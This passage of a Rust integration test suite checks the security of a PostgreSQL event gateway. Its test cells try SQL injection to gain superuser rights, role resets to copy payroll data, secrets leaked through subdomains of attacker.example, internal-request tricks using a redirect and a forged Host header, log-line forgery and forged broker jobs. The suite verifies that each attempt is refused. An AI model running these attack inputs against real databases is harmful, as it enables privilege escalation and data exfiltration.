            w.world.pg.execute("INSERT INTO pgevents.setting VALUES ('s16', 'x')").await;
            let superuser = w.world.pg.query_text("SELECT rolsuper::text FROM pg_roles WHERE rolname = 'bob'").await;
            w.world
                .pg
                .execute(
                    "DROP FUNCTION IF EXISTS public.array_to_string(text[], text); DROP FUNCTION IF EXISTS public.pg_notify(text, name);
                     REVOKE CREATE ON SCHEMA public FROM PUBLIC; ALTER ROLE bob NOSUPERUSER;",
                )
                .await;
            alice
                .execute(&format!("SELECT pgevents.session_drop('{session}')"), &[])
                .await
                .map_err(|e| e.to_string())?;
            ensure!(planted.is_ok(), "bob could not plant the functions: {}", db_message(&planted));
            ensure!(superuser.as_deref() == Some("false"), "bob's functions ran as a superuser");
            Ok(())
        }
        "S11" => {
            let session = GatewayWorld::session_of(alice).await;
            alice
                .execute(&format!("SELECT pgevents.subscribe_table('{session}', 'shared')"), &[])
                .await
                .map_err(|e| e.to_string())?;
            let (name, value) = bearer(&alice_token);
            let mut stream = gw.subscribe(&format!("/sessions/{session}/events"), &[(name, &value)]).await;
            w.world.pg.execute("INSERT INTO shared VALUES (11, 'before')").await;
            let before = drain(&mut stream, SHORT).await;
            ensure!(before.len() == 1, "before the revoke: {before:?}");
            w.world.pg.execute("REVOKE SELECT ON shared FROM alice").await;
            // --sessions-refresh is 1 s here.
            tokio::time::sleep(Duration::from_millis(2500)).await;
            w.world.pg.execute("INSERT INTO shared VALUES (12, 'after')").await;
            let after = drain(&mut stream, SHORT * 2).await;
            ensure!(after.is_empty(), "alice still reads shared after the revoke: {after:?}");
            let refused = gw.metric("pgevents_gateway_subscriptions_refused_total").await;
            ensure!(refused >= 1.0, "not counted: {refused}");
            Ok(())
        }
        other => Err(format!("no such cell {other}")),
    }
}

// ---------------------------------------------------------------------------------------------
// Rules and the workers

const BOT: &str = "123456:ABC-bot";
const PAY: &str = "pay-secret-4242";

struct RulesWorld {
    world: World,
    producer: PgEventsProcess,
    worker: PgEventsProcess,
    runner: PgEventsProcess,
    /// The environment of the worker, the action runner and requeue-dead.
    env: Vec<(String, String)>,
    work_exchange: String,
    dead_exchange: String,
    /// The API the actions call; `/jump` redirects to `other`; it echoes what it got.
    api: HttpRecorder,
    /// Another port of the same host.
    other: HttpRecorder,
    /// What a system proxy would be.
    proxy: HttpRecorder,
    metrics: SocketAddr,
    queues: Vec<String>,
    exchanges: Vec<String>,
    /// Every event of public.orders the producer publishes.
    events: tokio::sync::Mutex<EventQueue>,
    _passfile: tempfile::TempDir,
}

impl RulesWorld {
    async fn start() -> RulesWorld {
        let world = World::new().await;
        world
            .pg
            .execute(
                "CREATE ROLE alice LOGIN PASSWORD 'alice-pw'; CREATE ROLE bob LOGIN PASSWORD 'bob-pw';
                 CREATE SCHEMA alice AUTHORIZATION alice;
                 CREATE TABLE alice.mine (note text); ALTER TABLE alice.mine OWNER TO alice;
                 CREATE TABLE public.orders (id serial PRIMARY KEY, note text);
                 CREATE TABLE public.payroll (id serial PRIMARY KEY, salary int);
                 INSERT INTO public.payroll (salary) VALUES (123456);
                 GRANT SELECT ON public.orders TO alice, bob;
                 GRANT INSERT, SELECT ON public.orders TO bob; GRANT USAGE ON SEQUENCE public.orders_id_seq TO bob;
                 CREATE SCHEMA hr; CREATE TABLE hr.salaries (id int PRIMARY KEY, salary int);
                 GRANT SELECT ON hr.salaries TO alice;",
            )
            .await;
        rules_install(&world.pg).await;
        world
            .pg
            .execute(
                "GRANT USAGE ON SCHEMA pgevents TO alice, bob;
                 GRANT SELECT ON pgevents.event_table, pgevents.setting TO alice, bob;
                 GRANT SELECT, INSERT, UPDATE, DELETE ON pgevents.work_item, pgevents.action TO alice, bob;
                 INSERT INTO pgevents.event_table (table_name) VALUES ('orders'), ('payroll');
                 INSERT INTO pgevents.event_table (table_schema, table_name) VALUES ('hr', 'salaries');",
            )
            .await;
        // (Apart: a version of pgevents without grants runs every cell all the same, and fails them.)
        let _ =
            world.pg.client().await.batch_execute("INSERT INTO pgevents.secret_grant VALUES ('BOT', 'alice')").await;
        let other = HttpRecorder::always(200).await;
        let other_port = other.addr.port();
        let api = HttpRecorder::start(move |_, request| match request.path.as_str() {
            "/jump" => Reply::redirect(302, &format!("http://127.0.0.1:{other_port}/landed")),
            // Echoes the path (a secret placed in it comes back percent-encoded).
            path => Reply::with_body(500, &json!({"you_asked": path}).to_string()),
        })
        .await;
        let proxy = HttpRecorder::always(200).await;
        let passfile = tempfile::tempdir().unwrap();
        let passfile_path = passfile.path().join("pgpass");
        let port = common::pg_port(&world.pg);
        std::fs::write(
            &passfile_path,
            format!("127.0.0.1:{port}:postgres:alice:alice-pw\n127.0.0.1:{port}:postgres:bob:bob-pw\n"),
        )
        .unwrap();
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            std::fs::set_permissions(&passfile_path, std::fs::Permissions::from_mode(0o600)).unwrap();
        }
        let key_path = passfile.path().join("work.key");
        std::fs::write(&key_path, [42u8; 32]).unwrap();
        let names: Vec<String> =
            ["work", "actions", "dead", "deadq", "worker"].iter().map(|n| unique_name(n)).collect();
        let events = world.queue(&["public.orders"]).await;
        let producer = world.producer(&[("PGTABLES", "public.orders,public.payroll")]).await;
        let metrics = free_local_addr();
        let proxy_url = proxy.base_url();
        let mut env = world.producer_env(&[
            ("PGEVENTS_WORK_EXCHANGE", &names[0]),
            ("PGEVENTS_WORK_QUEUE", &names[1]),
            ("PGEVENTS_DEAD_LETTER_EXCHANGE", &names[2]),
            ("PGEVENTS_DEAD_LETTER_QUEUE", &names[3]),
            ("RABBITMQ_QUEUE_NAME", &names[4]),
            ("PGEVENTS_CONCURRENCY", "1"),
            ("PGPASSFILE", passfile_path.to_str().unwrap()),
            ("PGPASSWORD", "never-log-me"),
            ("PGEVENTS_HTTP_ALLOW", "127.0.0.0/8"),
            ("HTTP_PROXY", &proxy_url),
            ("http_proxy", &proxy_url),
            ("PGEVENTS_SECRET_BOT", BOT),
            ("PGEVENTS_SECRET_PAY", PAY),
            ("PGEVENTS_RULE_TIMEOUT_MS", "300"),
            ("PGEVENTS_MAX_PARAMETER_ROWS", "100"),
            ("PGEVENTS_RULES_REFRESH", "1"),
            ("PGEVENTS_ACCESS_RECHECK_MS", "500"),
            ("PGEVENTS_METRICS_ADDR", &metrics.to_string()),
            ("PGEVENTS_WORK_KEY_FILE", key_path.to_str().unwrap()),
        ]);
        env.retain(|(k, _)| k != "PGEVENTS_STATUS_INTERVAL");
        let mut worker = PgEventsProcess::spawn(&["worker"], &env);
        worker.wait_for_log("consuming", WAIT).await;
        let mut runner_env = env.clone();
        runner_env.retain(|(k, _)| k != "PGEVENTS_METRICS_ADDR");
        let mut runner = PgEventsProcess::spawn(&["action-runner"], &runner_env);
        runner.wait_for_log("consuming", WAIT).await;
        RulesWorld {
            env: runner_env,
            work_exchange: names[0].clone(),
            dead_exchange: names[2].clone(),
            runner,
            world,
            producer,
            worker,
            api,
            other,
            proxy,
            metrics,
            queues: vec![names[1].clone(), names[3].clone(), names[4].clone()],
            exchanges: vec![names[0].clone(), names[2].clone()],
            events: tokio::sync::Mutex::new(events),
            _passfile: passfile,
        }
    }

    async fn alice(&self) -> tokio_postgres::Client {
        connect_as(&self.world.pg, "alice", "alice-pw").await
    }

    async fn bob(&self) -> tokio_postgres::Client {
        connect_as(&self.world.pg, "bob", "bob-pw").await
    }

    /// Runs `sql` as `client`, then waits until the worker has read the rules again.
    async fn write_rules(&self, client: &tokio_postgres::Client, sql: &str) -> Result<(), String> {
        let before = self.worker.log_count("rules reloaded");
        client.batch_execute(sql).await.map_err(|e| db_message::<()>(&Err(e)))?;
        self.reloaded_since(before).await;
        Ok(())
    }

    /// Waits for two reloads after the log said `before` (one may have read the tables before
    /// the change committed).
    async fn reloaded_since(&self, before: usize) {
        wait_for("the rules reloaded", WAIT, || async {
            (self.worker.log_count("rules reloaded") > before + 1).then_some(())
        })
        .await;
    }

    /// As alice: an HTTP action `{cell}_action` (one attempt) to `url` with `headers`, and a work
    /// item `{cell}` (lower case) on orders noted `cell`, with `query` if given; then triggers it.
    async fn http_rule(
        &self,
        alice: &tokio_postgres::Client,
        cell: &str,
        url: &str,
        headers: Value,
        query: Option<&str>,
    ) -> Result<(), String> {
        let name = cell.to_lowercase();
        alice
            .execute(
                "INSERT INTO pgevents.action (name, kind, url, headers, max_attempts) VALUES ($1 || '_action', 'http', $2, $3::text::jsonb, 1)",
                &[&name, &url, &headers.to_string()],
            )
            .await
            .map_err(|e| db_message::<()>(&Err(e)))?;
        let filter = format!("$1->'new'->>'note' = '{cell}'");
        self.write_rules(
            alice,
            &format!(
                "INSERT INTO pgevents.work_item (name, table_name, action, filter, work_item_query) VALUES ('{name}', 'orders', '{name}_action', '{}', {})",
                filter.replace('\'', "''"),
                query.map(|q| format!("'{}'", q.replace('\'', "''"))).unwrap_or_else(|| "NULL".into())
            ),
        )
        .await?;
        self.order(cell).await;
        Ok(())
    }

    /// An order whose note names the cell (each cell's work items filter on it).
    async fn order(&self, note: &str) {
        self.world.pg.execute(&format!("INSERT INTO orders (note) VALUES ('{note}')")).await;
    }

    /// The `action_run` rows of a work item, once there are `n`.
    async fn runs(&self, work_item: &str, n: usize) -> Vec<Value> {
        let sql = format!(
            "SELECT coalesce(json_agg(r ORDER BY r.id), '[]')::text FROM pgevents.action_run r WHERE work_item = '{work_item}'"
        );
        wait_for(&format!("{n} runs of {work_item}"), WAIT, || async {
            let runs: Vec<Value> =
                serde_json::from_str(&self.world.pg.query_text(&sql).await.unwrap_or_default()).unwrap_or_default();
            (runs.len() >= n).then_some(runs)
        })
        .await
    }

    async fn dead_with(&self, work_item: &str, reason: &str) -> Verdict {
        let runs = self.runs(work_item, 1).await;
        let error = runs[0]["error"].as_str().unwrap_or_default().to_owned();
        ensure!(runs[0]["status"] == "dead" && error.contains(reason), "{work_item}: {runs:?}");
        Ok(())
    }

    async fn stop(self) {
        stop(self.worker).await;
        stop(self.runner).await;
        stop(self.producer).await;
        self.events.into_inner().close().await;
        for queue in &self.queues {
            delete_queue(queue).await;
        }
        for exchange in self.exchanges.iter().chain([&self.world.exchange]) {
            delete_exchange(exchange).await;
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rules_and_workers() {
    let w = RulesWorld::start().await;
    let alice = w.alice().await;
    // alice's own action, which her work items run.
    w.write_rules(&alice, "INSERT INTO pgevents.action (name, kind, sql) VALUES ('a_note', 'sql', 'INSERT INTO alice.mine (note) VALUES (''ran '' || ($2->''new''->>''note''))')")
        .await
        .expect("alice's action");
    run_cells(RULE_CELLS, |id| rule_cell(id, &w, &alice)).await;
    drop(alice);
    w.stop().await;
}

/// A work message as someone who may publish to the broker would make it: alice's SQL action
/// with parameters of their choosing.
fn forged_job(key: &str, note: &str) -> Value {
    json!({
        "idempotency_key": key, "work_item": "r2", "action": "a_note", "row": 0,
        "parameters": {}, "revive": true,
        "event": {"table_name": "public.orders", "action": "I", "lsn": "0/1", "commit_time": "2026-12-02T00:00:00Z", "message_id": key},
        "event_json": {"table_name": "public.orders", "action": "I", "new": {"note": note}, "old": {}}
    })
}

fn filter_on(cell: &str) -> String {
    format!("$1->''new''->>''note'' = ''{cell}''")
}

async fn rule_cell(id: &str, w: &RulesWorld, alice: &tokio_postgres::Client) -> Verdict {
    let pg = &w.world.pg;
    match id {
        "R1" => {
            let smuggled = "true)::boolean; DO $x$ BEGIN IF (SELECT rolsuper FROM pg_roles WHERE rolname = current_user) THEN ALTER ROLE alice SUPERUSER; END IF; END $x$; SELECT (true";
            alice
                .execute(
                    "INSERT INTO pgevents.work_item (name, table_name, action, filter) VALUES ('r1', 'orders', 'a_note', $1)",
                    &[&smuggled],
                )
                .await
                .map_err(|e| format!("alice's rule: {e}"))?;
            // An administrator touches the row (or a cascade does): its text must not run as them.
            let admin = pg.client().await;
            w.write_rules(&admin, "UPDATE pgevents.work_item SET enabled = true WHERE name = 'r1'").await?;
            w.order("R1").await;
            let superuser = pg.query_text("SELECT rolsuper::text FROM pg_roles WHERE rolname = 'alice'").await;
            ensure!(superuser.as_deref() == Some("false"), "alice made herself superuser");
            w.dead_with("r1", "cannot insert multiple commands").await
        }
        "R2" => {
            w.write_rules(
                alice,
                &format!(
                    "INSERT INTO pgevents.action (name, kind, sql) VALUES ('r2_copy', 'sql', 'INSERT INTO alice.mine (note) SELECT ''salary '' || salary FROM public.payroll');
                     INSERT INTO pgevents.work_item (name, table_name, action, filter) VALUES ('r2', 'orders', 'r2_copy', '{}')",
                    filter_on("R2")
                ),
            )
            .await?;
            w.order("R2").await;
            w.dead_with("r2", "permission denied for table payroll").await?;
            let copied = pg.query_text("SELECT count(*)::text FROM alice.mine WHERE note LIKE 'salary%'").await;
            ensure!(copied.as_deref() == Some("0"), "payroll was copied");
            Ok(())
        }
        "R3" => {
            w.write_rules(
                alice,
                &format!(
                    "CREATE FUNCTION alice.steal() RETURNS int LANGUAGE plpgsql AS $f$
                     BEGIN
                         PERFORM set_config('role', 'none', true);
                         INSERT INTO alice.mine (note) SELECT 'stolen ' || salary FROM public.payroll;
                         RETURN 1;
                     END $f$;
                     INSERT INTO pgevents.action (name, kind, sql) VALUES ('r3_steal', 'sql', 'SELECT alice.steal()');
                     INSERT INTO pgevents.work_item (name, table_name, action, filter) VALUES ('r3', 'orders', 'r3_steal', '{}')",
                    filter_on("R3")
                ),
            )
            .await?;
            w.order("R3").await;
            w.dead_with("r3", "permission denied for table payroll").await?;
            let stolen = pg.query_text("SELECT count(*)::text FROM alice.mine WHERE note LIKE 'stolen%'").await;
            ensure!(stolen.as_deref() == Some("0"), "the worker's role was taken back");
            Ok(())
        }
        "R4" => {
            let refused = alice
                .execute(
                    "INSERT INTO pgevents.work_item (name, table_name, action) VALUES ('r4', 'payroll', 'a_note')",
                    &[],
                )
                .await;
            ensure!(db_code(&refused) == "42501", "a work item on payroll: {}", db_message(&refused));
            Ok(())
        }
        "R5" => {
            let url = format!("{}/pay?k={{{{secret.PAY}}}}", w.api.base_url());
            let write = format!(
                "INSERT INTO pgevents.action (name, kind, url, max_attempts) VALUES ('r5_pay', 'http', '{url}', 1)"
            );
            let refused = alice.execute(write.as_str(), &[]).await;
            ensure!(db_code(&refused) == "42501" && db_message(&refused).contains("PAY"), "{}", db_message(&refused));
            pg.execute("INSERT INTO pgevents.secret_grant VALUES ('PAY', 'alice')").await;
            w.write_rules(
                alice,
                &format!(
                    "{write}; INSERT INTO pgevents.work_item (name, table_name, action, filter) VALUES ('r5', 'orders', 'r5_pay', '{}')",
                    filter_on("R5")
                ),
            )
            .await?;
            let before = w.worker.log_count("rules reloaded");
            pg.execute("DELETE FROM pgevents.secret_grant WHERE secret = 'PAY'").await;
            w.reloaded_since(before).await;
            w.order("R5").await;
            w.dead_with("r5", "not granted").await?;
            ensure!(!w.api.requests().iter().any(|r| r.path.contains(PAY)), "the secret was sent");
            Ok(())
        }
        "R6" => {
            let bob = w.bob().await;
            let changed = bob.execute("UPDATE pgevents.work_item SET filter = 'false' WHERE name = 'r2'", &[]).await;
            ensure!(changed.as_ref().ok() == Some(&0), "bob changed alice's rule: {changed:?}");
            let deleted = bob.execute("DELETE FROM pgevents.work_item WHERE name = 'r2'", &[]).await;
            ensure!(deleted.as_ref().ok() == Some(&0), "bob deleted alice's rule: {deleted:?}");
            alice
                .execute("UPDATE pgevents.work_item SET owner = 'bob' WHERE name = 'r2'", &[])
                .await
                .map_err(|e| e.to_string())?;
            let owner = pg.query_text("SELECT owner::text FROM pgevents.work_item WHERE name = 'r2'").await;
            ensure!(owner.as_deref() == Some("alice"), "the owner became {owner:?}");
            Ok(())
        }
        "R7" => {
            let bob = w.bob().await;
            let refused = bob
                .execute(
                    "INSERT INTO pgevents.work_item (name, table_name, action) VALUES ('r7', 'orders', 'a_note')",
                    &[],
                )
                .await;
            ensure!(db_code(&refused) == "42501", "bob runs alice's action: {}", db_message(&refused));
            Ok(())
        }
        "R8" => {
            let bob = w.bob().await;
            let forged = bob
                .execute(
                    "SELECT pgevents.record_action_success('m/r2/0', 'r2', 'r2_copy', 'm', 'public.orders', 'I', '{}', 1, now(), 1, 'forged', 'bob')",
                    &[],
                )
                .await;
            ensure!(db_code(&forged) == "42501", "bob recorded a success of alice's action: {}", db_message(&forged));
            let direct = bob.execute("INSERT INTO pgevents.action_run (idempotency_key, work_item, action, event_message_id, event_table, event_action, status, attempt, started_at, duration_ms) VALUES ('k', 'r2', 'r2_copy', 'm', 't', 'I', 'succeeded', 1, now(), 1)", &[]).await;
            ensure!(direct.is_err(), "bob wrote action_run");
            Ok(())
        }
        "R9" => {
            let url = format!("{}/users/{{{{id}}}}/profile", w.api.base_url());
            w.http_rule(alice, "R9", &url, json!({}), Some("SELECT jsonb_build_object('id', '..') AS parameters"))
                .await?;
            w.dead_with("r9", "would change the path").await?;
            ensure!(!w.api.requests().iter().any(|r| r.path.contains("profile")), "the climbed path was called");
            Ok(())
        }
        "R10" => {
            let headers = json!({"X-Api-Key": "{{secret.BOT}}"});
            w.http_rule(alice, "R10", &format!("{}/jump", w.api.base_url()), headers, None).await?;
            w.dead_with("r10", "another port").await?;
            ensure!(w.other.requests().is_empty(), "the other port got {:?}", w.other.requests());
            Ok(())
        }
        "R11" => {
            let headers = json!({"Host": "internal.example"});
            w.http_rule(alice, "R11", &format!("{}/r11", w.api.base_url()), headers, None).await?;
            w.dead_with("r11", "cannot be set by an action").await?;
            ensure!(!w.api.requests().iter().any(|r| r.path == "/r11"), "the request went out");
            Ok(())
        }
        "R12" => {
            w.http_rule(alice, "R12", "http://r12.invalid/x", json!({}), None).await?;
            w.dead_with("r12", "does not resolve").await?;
            ensure!(w.proxy.requests().is_empty(), "the system proxy was used: {:?}", w.proxy.requests());
            Ok(())
        }
        "R13" => {
            w.http_rule(alice, "R13", &format!("{}/bot{{{{secret.BOT}}}}/send", w.api.base_url()), json!({}), None)
                .await?;
            let runs = w.runs("r13", 1).await;
            ensure!(w.api.requests().iter().any(|r| r.path.starts_with("/bot123456")), "the secret was not even used");
            let recorded = serde_json::to_string(&runs).unwrap_or_default();
            for form in [BOT, "123456%3AABC", "123456%3aABC", "123456:ABC", "MTIzNDU2OkFCQy1ib3Q"] {
                ensure!(!recorded.contains(form), "{form} recorded: {recorded}");
            }
            ensure!(recorded.contains("[secret BOT]") || recorded.contains("{{secret.BOT}}"), "{recorded}");
            Ok(())
        }
        "R14" => {
            w.write_rules(
                alice,
                "INSERT INTO pgevents.work_item (name, table_name, action, filter) VALUES
                    ('r14', 'orders', 'a_note', 'CASE WHEN $1->''new''->>''note'' = ''R14'' THEN pg_sleep(5) IS NOT NULL ELSE false END'),
                    ('r14_after', 'orders', 'a_note', '$1->''new''->>''note'' = ''R14 after''')",
            )
            .await?;
            w.order("R14").await;
            w.order("R14 after").await;
            w.dead_with("r14", "statement timeout").await?;
            let after = w.runs("r14_after", 1).await;
            ensure!(after[0]["status"] == "succeeded", "the worker stalled: {after:?}");
            Ok(())
        }
        "R15" => {
            w.write_rules(
                alice,
                "INSERT INTO pgevents.work_item (name, table_name, action, filter, work_item_query) VALUES
                    ('r15', 'orders', 'a_note',
                     'set_config(''statement_timeout'', ''0'', true) IS NOT NULL AND $1->''new''->>''note'' = ''R15''',
                     'SELECT jsonb_build_object(''slept'', pg_sleep(5)::text) AS parameters')",
            )
            .await?;
            let started = std::time::Instant::now();
            w.order("R15").await;
            w.dead_with("r15", "statement timeout").await?;
            ensure!(started.elapsed() < Duration::from_secs(4), "the rule ran its 5 s: {:?}", started.elapsed());
            Ok(())
        }
        "R16" => {
            w.write_rules(
                alice,
                "INSERT INTO pgevents.work_item (name, table_name, action, filter, work_item_query) VALUES
                    ('r16', 'orders', 'a_note', '$1->''new''->>''note'' = ''R16''',
                     'SELECT jsonb_build_object(''n'', g) AS parameters FROM generate_series(1, 100000) g')",
            )
            .await?;
            w.order("R16").await;
            w.dead_with("r16", "more than 100 rows").await?;
            let ran = pg.query_text("SELECT count(*)::text FROM pgevents.action_run WHERE work_item = 'r16'").await;
            ensure!(ran.as_deref() == Some("1"), "jobs were made: {ran:?}");
            Ok(())
        }
        "R17" => {
            let refused = alice
                .execute(
                    "INSERT INTO pgevents.action (name, kind, url) VALUES ('r17_dns', 'http', 'https://{{secret.BOT}}.x.attacker.example/')",
                    &[],
                )
                .await;
            ensure!(
                db_message(&refused).contains("action_url_host_fixed"),
                "a secret in a host name: {}",
                db_message(&refused)
            );
            Ok(())
        }
        "R18" => {
            // A rule written before owners existed.
            pg.execute(
                "INSERT INTO pgevents.action (name, kind, url) VALUES ('legacy', 'http', 'https://mailer.example/');
                 ALTER TABLE pgevents.action DISABLE TRIGGER action_owner;
                 UPDATE pgevents.action SET owner = NULL WHERE name = 'legacy';
                 ALTER TABLE pgevents.action ENABLE TRIGGER action_owner;",
            )
            .await;
            let rewired = alice
                .execute("UPDATE pgevents.action SET url = 'https://attacker.example/' WHERE name = 'legacy'", &[])
                .await;
            let taken =
                alice.execute("UPDATE pgevents.action SET owner = current_user WHERE name = 'legacy'", &[]).await;
            let removed = alice.execute("DELETE FROM pgevents.action WHERE name = 'legacy'", &[]).await;
            for (what, result) in [("rewired", &rewired), ("taken", &taken), ("removed", &removed)] {
                ensure!(result.as_ref().ok() == Some(&0), "alice {what} an ownerless rule: {result:?}");
            }
            let url = pg
                .query_text(
                    "SELECT url || ' ' || coalesce(owner::text, 'nobody') FROM pgevents.action WHERE name = 'legacy'",
                )
                .await;
            ensure!(url.as_deref() == Some("https://mailer.example/ nobody"), "{url:?}");
            Ok(())
        }
        "R19" => {
            let refused = alice
                .execute(
                    "INSERT INTO pgevents.work_item (name, table_schema, table_name, action) VALUES ('r19', 'hr', 'salaries', 'a_note')",
                    &[],
                )
                .await;
            ensure!(db_code(&refused) == "42501" && db_message(&refused).contains("USAGE"), "{}", db_message(&refused));
            Ok(())
        }
        "R20" => {
            let name = "r20\n2026-12-02T00:00:00Z  INFO forged: admin logged in";
            let before = w.worker.log_count("rules reloaded");
            alice
                .execute(
                    "INSERT INTO pgevents.work_item (name, table_name, action, filter) VALUES ($1, 'orders', 'a_note', 'CASE WHEN $1->''new''->>''note'' = ''R20'' THEN 1 / 0 = 1 ELSE false END')",
                    &[&name],
                )
                .await
                .map_err(|e| e.to_string())?;
            w.reloaded_since(before).await;
            w.order("R20").await;
            w.runs(name, 1).await;
            let log = w.worker.stderr();
            ensure!(log.contains("r20"), "the failure was not logged");
            ensure!(
                !log.lines().any(|line| line.starts_with("2026-12-02T00:00:00Z  INFO forged")),
                "a forged log line"
            );
            Ok(())
        }
        "R21" => {
            for url in ["{base_url}.{{secret.BOT}}.x.attacker.example/x", "{base_url}:{{port}}/x"] {
                let refused = alice
                    .execute("INSERT INTO pgevents.action (name, kind, url) VALUES ('r21', 'http', $1)", &[&url])
                    .await;
                ensure!(db_message(&refused).contains("action_url_host_fixed"), "{url}: {}", db_message(&refused));
            }
            Ok(())
        }
        "R23" => {
            pg.execute("GRANT SELECT ON public.payroll TO alice").await;
            w.write_rules(
                alice,
                "INSERT INTO pgevents.work_item (name, table_name, action) VALUES ('r23', 'payroll', 'a_note')",
            )
            .await?;
            pg.execute("INSERT INTO payroll (salary) VALUES (1)").await;
            let runs = w.runs("r23", 1).await;
            ensure!(runs[0]["status"] == "succeeded", "before the revoke: {runs:?}");
            pg.execute("REVOKE SELECT ON public.payroll FROM alice").await;
            // --access-recheck-ms is 500 ms here: the yes is not reused past it.
            tokio::time::sleep(Duration::from_millis(1000)).await;
            pg.execute("INSERT INTO payroll (salary) VALUES (2)").await;
            let runs = w.runs("r23", 2).await;
            let error = runs[1]["error"].as_str().unwrap_or_default();
            ensure!(runs[1]["status"] == "dead" && error.contains("may not see"), "after the revoke: {runs:?}");
            Ok(())
        }
        "R25" => {
            // The functions that run rule text of several events at once run it as their
            // caller: called directly, they give an author nothing it could not do in psql.
            let read = alice
                .query(
                    "SELECT * FROM pgevents.evaluate_work_items(ARRAY[NULL], ARRAY['SELECT q.parameters::jsonb FROM (SELECT to_jsonb(p) AS parameters FROM public.payroll p) AS q'], ARRAY['{}'::jsonb], 10, 100000, 1000)",
                    &[],
                )
                .await;
            ensure!(db_code(&read) == "42501", "evaluate_work_items read payroll: {read:?}");
            let write = alice
                .query(
                    "SELECT pgevents.run_sql_actions(ARRAY['DELETE FROM public.payroll'], ARRAY[1000], ARRAY['{}'::jsonb], ARRAY['{}'::jsonb],
                         ARRAY['r25'], ARRAY['w'], ARRAY['a_note'], ARRAY['m'], ARRAY['public.payroll'], ARRAY['D'], ARRAY['{}'::jsonb], 'me')",
                    &[],
                )
                .await;
            ensure!(db_code(&write) == "42501", "run_sql_actions deleted from payroll: {write:?}");
            // Another role's action (or one that does not exist): no success row for it.
            pg.execute("INSERT INTO pgevents.action (name, kind, sql) VALUES ('r25_admin', 'sql', 'SELECT 1')").await;
            for action in ["r25_admin", "r25_nobody"] {
                let recorded = alice
                    .query(
                        "SELECT pgevents.record_action_successes(ARRAY['r25'], ARRAY['w'], ARRAY[$1], ARRAY['m'], ARRAY['t'], ARRAY['I'],
                             ARRAY['{}'::jsonb], ARRAY[now()], ARRAY[1.0::float8], ARRAY['1 rows'], 'me')",
                        &[&action],
                    )
                    .await;
                ensure!(db_message(&recorded).contains("does not own action"), "{action}: {recorded:?}");
            }
            // Nor does it learn whether another role's jobs ran.
            for action in ["r25_admin", "r25_nobody"] {
                let probed =
                    alice.query("SELECT pgevents.require_fresh_jobs(ARRAY['r25'], ARRAY[$1])", &[&action]).await;
                ensure!(db_message(&probed).contains("does not own action"), "{action}: {probed:?}");
            }
            let helper = alice.query("SELECT pgevents.require_own_actions(ARRAY['a_note'])", &[]).await;
            ensure!(db_code(&helper) == "42501", "require_own_actions is executable: {helper:?}");
            pg.execute("DELETE FROM pgevents.action WHERE name = 'r25_admin'").await;
            let rows =
                pg.query_text("SELECT count(*)::text FROM pgevents.action_run WHERE idempotency_key = 'r25'").await;
            ensure!(rows.as_deref() == Some("0"), "{rows:?} success rows written");
            Ok(())
        }
        "R24" => {
            w.write_rules(
                alice,
                "CREATE TABLE alice.r24 (n int);
                 CREATE FUNCTION alice.r24_write() RETURNS boolean LANGUAGE sql AS $f$ INSERT INTO alice.r24 VALUES (1) RETURNING true $f$;
                 INSERT INTO pgevents.work_item (name, table_name, action, filter) VALUES
                     ('r24', 'orders', 'a_note', $$CASE WHEN $1->'new'->>'note' = 'R24' THEN alice.r24_write() ELSE false END$$);
                 INSERT INTO pgevents.work_item (name, table_name, action, filter, work_item_query) VALUES
                     ('r24q', 'orders', 'a_note', $$$1->'new'->>'note' = 'R24'$$,
                      $$SELECT jsonb_build_object('wrote', alice.r24_write()) AS parameters$$);",
            )
            .await?;
            w.order("R24").await;
            for item in ["r24", "r24q"] {
                w.dead_with(item, "read-only transaction").await?;
            }
            let written = pg.query_text("SELECT count(*)::text FROM alice.r24").await;
            ensure!(written.as_deref() == Some("0"), "rule text wrote {written:?} rows");
            Ok(())
        }
        "R22" => {
            w.write_rules(
                alice,
                "CREATE TABLE alice.slow (id int);
                 CREATE FUNCTION alice.linger() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN PERFORM pg_sleep(30); RETURN NULL; END $f$;
                 CREATE CONSTRAINT TRIGGER linger AFTER INSERT ON alice.slow DEFERRABLE INITIALLY DEFERRED
                     FOR EACH ROW EXECUTE FUNCTION alice.linger();
                 INSERT INTO pgevents.action (name, kind, sql, timeout_ms, max_attempts) VALUES ('r22_linger', 'sql',
                     'INSERT INTO alice.slow SELECT 1 FROM (SELECT set_config(''statement_timeout'', ''0'', true)) s', 500, 1);
                 INSERT INTO pgevents.work_item (name, table_name, action, filter) VALUES
                     ('r22', 'orders', 'r22_linger', '$1->''new''->>''note'' = ''R22''')",
            )
            .await?;
            let started = std::time::Instant::now();
            w.order("R22").await;
            let runs = w.runs("r22", 1).await;
            ensure!(runs[0]["status"] == "dead", "{runs:?}");
            ensure!(
                started.elapsed() < Duration::from_secs(10),
                "the worker waited {:?} for rule text",
                started.elapsed()
            );
            Ok(())
        }
        "B1" => {
            let forged = forged_job("b1-forged", "forged by a broker user");
            publish_raw(&w.work_exchange, "a_note", "b1", forged.to_string().as_bytes()).await;
            wait_for("the runner's refusal", WAIT, || async {
                w.runner.stderr().contains("refused a work message without a valid signature").then_some(())
            })
            .await;
            let ran = pg
                .query_text("SELECT count(*)::text FROM alice.mine WHERE note LIKE '%forged by a broker user%'")
                .await;
            ensure!(ran.as_deref() == Some("0"), "the forged job ran");
            Ok(())
        }
        "B2" => {
            let forged = forged_job("b2-forged", "forged into the dead letters");
            publish_raw(&w.dead_exchange, "a_note", "b2", forged.to_string().as_bytes()).await;
            tokio::time::sleep(Duration::from_millis(300)).await;
            let mut requeue = PgEventsProcess::spawn(&["requeue-dead"], &w.env);
            ensure!(requeue.wait(WAIT).await == Some(0), "requeue-dead failed: {}", requeue.stderr());
            let said = requeue.stdout();
            ensure!(said.contains("jobs whose signature does not hold"), "{said}");
            tokio::time::sleep(Duration::from_secs(1)).await;
            let ran = pg.query_text("SELECT count(*)::text FROM alice.mine WHERE note LIKE '%forged into%'").await;
            ensure!(ran.as_deref() == Some("0"), "the forged job ran");
            Ok(())
        }
        "L1" => {
            let bob = w.bob().await;
            bob.batch_execute(
                "BEGIN; SELECT pg_logical_emit_message(true, 'pgevents', '{\"skip\": true}'); INSERT INTO public.orders (note) VALUES ('L1 hidden?'); COMMIT;",
            )
            .await
            .map_err(|e| e.to_string())?;
            let mut events = w.events.lock().await;
            while let Some(event) = events.next(Duration::from_secs(5)).await {
                if event.json["new"]["note"] == "L1 hidden?" {
                    return Ok(());
                }
            }
            Err("a skip request hid bob's change from every consumer".into())
